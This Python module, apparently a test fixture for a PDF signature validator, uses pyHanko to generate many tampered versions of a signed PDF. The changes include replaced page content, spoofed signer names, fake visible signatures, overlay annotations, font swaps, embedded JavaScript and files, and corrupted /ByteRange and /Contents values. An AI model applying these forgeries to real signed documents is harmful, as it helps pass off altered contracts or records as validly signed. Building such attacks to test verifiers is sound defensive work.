"""Attacks on signed PDF, made by us: each takes the honest file and returns one that lies."""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

N = generic.NameObject
Cambio = Callable[[IncrementalPdfFileWriter], None]


def _despues(cambio: Cambio) -> Callable[[bytes], bytes]:
    """Return the attack that makes a change in a later revision (incremental saving)."""

    def atacar(pdf: bytes) -> bytes:
        escritor = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
        cambio(escritor)
        salida = io.BytesIO()
        escritor.write(salida)
        return salida.getvalue()

    return atacar


def _pagina(w: IncrementalPdfFileWriter, cual: int = 0) -> Any:
    return w.find_page_for_modification(cual)[0].get_object()


def _poner(w: IncrementalPdfFileWriter, cual: int, clave: str, valor: Any) -> None:
    referencia, _recursos = w.find_page_for_modification(cual)
    referencia.get_object()[N(clave)] = valor
    w.mark_update(referencia)


def _en_el_catalogo(w: IncrementalPdfFileWriter, clave: str, valor: Any) -> None:
    w.root[N(clave)] = valor
    w.update_root()


def _flujo(texto: bytes) -> generic.StreamObject:
    return generic.StreamObject(stream_data=texto)


def _texto() -> generic.StreamObject:
    return _flujo(b"BT /F1 20 Tf 50 400 Td (Debe 9999) Tj ET")


def _numeros(*valores: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in valores])


def _diccionario(**claves: Any) -> generic.DictionaryObject:
    return generic.DictionaryObject({N(f"/{c}"): v for c, v in claves.items()})


def _anotacion(w: IncrementalPdfFileWriter, subtipo: str, **mas: Any) -> None:
    nota = _diccionario(
        Type=N("/Annot"), Subtype=N(f"/{subtipo}"), Rect=_numeros(0, 0, 600, 800), **mas
    )
    referencia, _recursos = w.find_page_for_modification(0)
    pagina = referencia.get_object()
    previas = pagina.get("/Annots", generic.ArrayObject())
    pagina[N("/Annots")] = generic.ArrayObject([*_crudos(previas), w.add_object(nota)])
    w.mark_update(referencia)


def _crudos(lista: Any) -> list[Any]:
    return [lista.raw_get(n) for n in range(len(lista))]


def _javascript() -> generic.DictionaryObject:
    return _diccionario(S=N("/JavaScript"), JS=generic.TextStringObject("app.alert(1)"))


def contenido_sustituido(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/Contents", w.add_object(_texto()))


def contenido_anadido(w: IncrementalPdfFileWriter) -> None:
    previo = _pagina(w).raw_get("/Contents")
    lista = generic.ArrayObject([previo, w.add_object(_texto())])
    _poner(w, 0, "/Contents", lista)


def contenido_vaciado(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/Contents", w.add_object(_flujo(b"")))


def _paginas(w: IncrementalPdfFileWriter) -> Any:
    return w.root["/Pages"]


def _con_hijas(w: IncrementalPdfFileWriter, hijas: list[Any]) -> None:
    raiz = _paginas(w)
    raiz[N("/Kids")] = generic.ArrayObject(hijas)
    raiz[N("/Count")] = generic.NumberObject(len(hijas))
    w.mark_update(w.root.raw_get("/Pages"))


def _referencias(w: IncrementalPdfFileWriter) -> list[Any]:
    return [w.find_page_for_modification(n)[0] for n in range(2)]


def pagina_anadida(w: IncrementalPdfFileWriter) -> None:
    nueva = _diccionario(
        Type=N("/Page"),
        MediaBox=_numeros(0, 0, 300, 300),
        Contents=w.add_object(_texto()),
        Parent=w.root.raw_get("/Pages"),
    )
    _con_hijas(w, [*_referencias(w), w.add_object(nueva)])


def pagina_quitada(w: IncrementalPdfFileWriter) -> None:
    _con_hijas(w, _referencias(w)[:1])


def paginas_al_reves(w: IncrementalPdfFileWriter) -> None:
    _con_hijas(w, _referencias(w)[::-1])


def pagina_repetida(w: IncrementalPdfFileWriter) -> None:
    _con_hijas(w, [*_referencias(w), _referencias(w)[0]])


def arbol_de_paginas_nuevo(w: IncrementalPdfFileWriter) -> None:
    nueva = _diccionario(
        Type=N("/Page"), MediaBox=_numeros(0, 0, 300, 300), Contents=w.add_object(_texto())
    )
    hija = w.add_object(nueva)
    raiz = _diccionario(
        Type=N("/Pages"), Kids=generic.ArrayObject([hija]), Count=generic.NumberObject(1)
    )
    _en_el_catalogo(w, "/Pages", w.add_object(raiz))


def nota_de_texto(w: IncrementalPdfFileWriter) -> None:
    _anotacion(w, "FreeText", Contents=generic.TextStringObject("Debe 9999"))


def sello_encima(w: IncrementalPdfFileWriter) -> None:
    _anotacion(w, "Stamp", AP=_diccionario(N=w.add_object(_texto())))


def cuadro_blanco_encima(w: IncrementalPdfFileWriter) -> None:
    _anotacion(w, "Square", IC=_numeros(1, 1, 1))


def enlace_con_programa(w: IncrementalPdfFileWriter) -> None:
    _anotacion(w, "Link", A=_javascript())


def campo_de_texto(w: IncrementalPdfFileWriter) -> None:
    _anotacion(
        w,
        "Widget",
        FT=N("/Tx"),
        T=generic.TextStringObject("importe"),
        V=generic.TextStringObject("9999"),
        AP=_diccionario(N=w.add_object(_texto())),
    )


def firma_visible_sin_firmar(w: IncrementalPdfFileWriter) -> None:
    _anotacion(
        w,
        "Widget",
        FT=N("/Sig"),
        T=generic.TextStringObject("otra"),
        AP=_diccionario(N=w.add_object(_texto())),
    )


def firma_de_mentira_visible(w: IncrementalPdfFileWriter) -> None:
    """A field that says that it is signed, and whose signature has no content at all."""
    valor = _diccionario(
        Type=N("/Sig"), Filter=N("/Adobe.PPKLite"), Name=generic.TextStringObject("Yo")
    )
    _anotacion(
        w,
        "Widget",
        FT=N("/Sig"),
        T=generic.TextStringObject("otra"),
        V=w.add_object(valor),
        AP=_diccionario(N=w.add_object(_texto())),
    )


def anotacion_quitada(w: IncrementalPdfFileWriter) -> None:
    _anotacion(w, "Text", Contents=generic.TextStringObject("x"))
    _poner(w, 1, "/Annots", generic.ArrayObject())
    _poner(w, 1, "/Contents", w.add_object(_flujo(b"0 0 100 100 re f")))


def programa_al_abrir(w: IncrementalPdfFileWriter) -> None:
    _en_el_catalogo(w, "/OpenAction", _javascript())


def programa_al_cerrar(w: IncrementalPdfFileWriter) -> None:
    _en_el_catalogo(w, "/AA", _diccionario(WC=_javascript()))


def programa_en_la_pagina(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/AA", _diccionario(O=_javascript()))


def programas_con_nombre(w: IncrementalPdfFileWriter) -> None:
    nombres = generic.ArrayObject([generic.TextStringObject("a"), w.add_object(_javascript())])
    _en_el_catalogo(w, "/Names", _diccionario(JavaScript=_diccionario(Names=nombres)))


def hoja_recortada(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/CropBox", _numeros(0, 0, 10, 10))


def hoja_agrandada(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/MediaBox", _numeros(-5000, -5000, 5000, 5000))


def hoja_girada(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/Rotate", generic.NumberObject(180))


def otra_unidad(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/UserUnit", generic.FloatObject(75))


def letras_cambiadas(w: IncrementalPdfFileWriter) -> None:
    """Another font under the same name: the same codes draw other letters."""
    falsa = _diccionario(Type=N("/Font"), Subtype=N("/Type1"), BaseFont=N("/ZapfDingbats"))
    previas = _pagina(w)["/Resources"].get("/Font", {})
    nuevas = generic.DictionaryObject({N(clave): w.add_object(falsa) for clave in previas})
    _poner(w, 0, "/Resources", _diccionario(Font=nuevas))


def recursos_quitados(w: IncrementalPdfFileWriter) -> None:
    _poner(w, 0, "/Resources", _diccionario())


def capas_escondidas(w: IncrementalPdfFileWriter) -> None:
    capa = w.add_object(_diccionario(Type=N("/OCG"), Name=generic.TextStringObject("a")))
    apagadas = _diccionario(OFF=generic.ArrayObject([capa]), Order=generic.ArrayObject([capa]))
    _en_el_catalogo(w, "/OCProperties", _diccionario(OCGs=generic.ArrayObject([capa]), D=apagadas))


def indice_cambiado(w: IncrementalPdfFileWriter) -> None:
    titulo = generic.TextStringObject("Debe 9999")
    entrada = w.add_object(_diccionario(Title=titulo, A=_javascript()))
    indice = _diccionario(Type=N("/Outlines"), First=entrada, Last=entrada)
    _en_el_catalogo(w, "/Outlines", w.add_object(indice))


def lo_que_lee_un_ciego(w: IncrementalPdfFileWriter) -> None:
    """Another tree of structure: whoever listens to it hears another document."""
    arbol = _diccionario(Type=N("/StructTreeRoot"), K=generic.ArrayObject())
    _en_el_catalogo(w, "/StructTreeRoot", w.add_object(arbol))


def idioma_cambiado(w: IncrementalPdfFileWriter) -> None:
    _en_el_catalogo(w, "/Lang", generic.TextStringObject("xx"))


def fichero_dentro(w: IncrementalPdfFileWriter) -> None:
    fichero = w.add_object(_diccionario(Type=N("/Filespec"), F=generic.TextStringObject("a.exe")))
    nombres = generic.ArrayObject([generic.TextStringObject("a"), fichero])
    _en_el_catalogo(w, "/Names", _diccionario(EmbeddedFiles=_diccionario(Names=nombres)))


def formulario_con_xfa(w: IncrementalPdfFileWriter) -> None:
    formulario = w.root["/AcroForm"]
    formulario[N("/XFA")] = w.add_object(_flujo(b"<xdp/>"))
    w.update_container(formulario)


def apariencias_al_vuelo(w: IncrementalPdfFileWriter) -> None:
    formulario = w.root["/AcroForm"]
    formulario[N("/NeedAppearances")] = generic.BooleanObject(True)
    w.update_container(formulario)


def firma_borrada(w: IncrementalPdfFileWriter) -> None:
    """The field of the signature is emptied, so that a reader sees no signature at all."""
    campo = w.root["/AcroForm"]["/Fields"][0]
    del campo["/V"]
    w.update_container(campo)
    contenido_sustituido(w)


def nombre_de_quien_firma(w: IncrementalPdfFileWriter) -> None:
    """What the signature says of itself, said again in a later revision (spoofing)."""
    firma = w.root["/AcroForm"]["/Fields"][0]["/V"]
    copia = generic.DictionaryObject({N(c): firma.raw_get(c) for c in firma})
    copia[N("/Name")] = generic.TextStringObject("Otra persona")
    campo = w.root["/AcroForm"]["/Fields"][0]
    campo[N("/V")] = w.add_object(copia)
    w.update_container(campo)
    contenido_anadido(w)


EN_OTRA_REVISION: list[Cambio] = [
    uno
    for nombre, uno in list(globals().items())
    if callable(uno)
    and getattr(uno, "__module__", "") == __name__
    and not nombre.startswith("_")
    and nombre != "N"
]
_RANGO = re.compile(rb"/ByteRange\s*\[([^\]]*)\]")
_CONTENIDO = re.compile(rb"/Contents\s*<([0-9a-fA-F]*)>")


def _otro_rango(nuevo: Callable[[list[int]], str]) -> Callable[[bytes], bytes]:
    def atacar(pdf: bytes) -> bytes:
        hallado = _RANGO.search(pdf)
        assert hallado
        antes = hallado[1]
        dicho = nuevo([int(n) for n in antes.split()]).encode()
        return pdf.replace(antes, dicho.ljust(len(antes))[: max(len(antes), len(dicho))], 1)

    return atacar


def _otro_contenido(nuevo: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def atacar(pdf: bytes) -> bytes:
        hallado = _CONTENIDO.search(pdf)
        assert hallado
        return pdf.replace(hallado[1], nuevo(hallado[1]).ljust(len(hallado[1]), b"0"), 1)

    return atacar


# Universal forgery and wrapping: the dictionary of the signature itself is touched.
EN_LA_FIRMA: dict[str, Callable[[bytes], bytes]] = {
    "rango-ceros": _otro_rango(lambda r: "0 0 0 0"),
    "rango-negativo": _otro_rango(lambda r: f"0 -{r[1]} {r[2]} {r[3]}"),
    "rango-vacio": _otro_rango(lambda r: ""),
    "rango-de-uno": _otro_rango(lambda r: "0"),
    "rango-de-dos": _otro_rango(lambda r: f"0 {r[1]}"),
    "rango-corto": _otro_rango(lambda r: f"0 {r[1]} {r[2]} {r[3] - 10}"),
    "rango-solapado": _otro_rango(lambda r: f"0 {r[2]} {r[1]} {r[3]}"),
    "rango-que-no-empieza-al-principio": _otro_rango(lambda r: f"9 {r[1] - 9} {r[2]} {r[3]}"),
    "rango-al-reves": _otro_rango(lambda r: f"{r[2]} {r[3]} 0 {r[1]}"),
    "rango-con-letras": _otro_rango(lambda r: "null null null null"),
    "contenido-de-ceros": _otro_contenido(lambda c: b"0" * len(c)),
    "contenido-vacio": _otro_contenido(lambda c: b"3000"),
    "contenido-truncado": _otro_contenido(lambda c: c[:200]),
    "contenido-cambiado": _otro_contenido(lambda c: c[:100] + b"ff" + c[102:]),
    "sin-contenido": lambda pdf: pdf.replace(b"/Contents", b"/Contentz", 1),
    "sin-rango": lambda pdf: pdf.replace(b"/ByteRange", b"/ByteRangz", 1),
    "un-octeto-antes": lambda pdf: b"\n" + pdf,
    "un-octeto-dentro": lambda pdf: (
        pdf.replace(b"/Type/Page", b"/Type/Pagf", 1)
        if b"/Type/Page" in pdf
        else pdf.replace(b"/Type /Page", b"/Type /Pagf", 1)
    ),
}
ATAQUES = {uno.__name__: _despues(uno) for uno in EN_OTRA_REVISION} | EN_LA_FIRMA
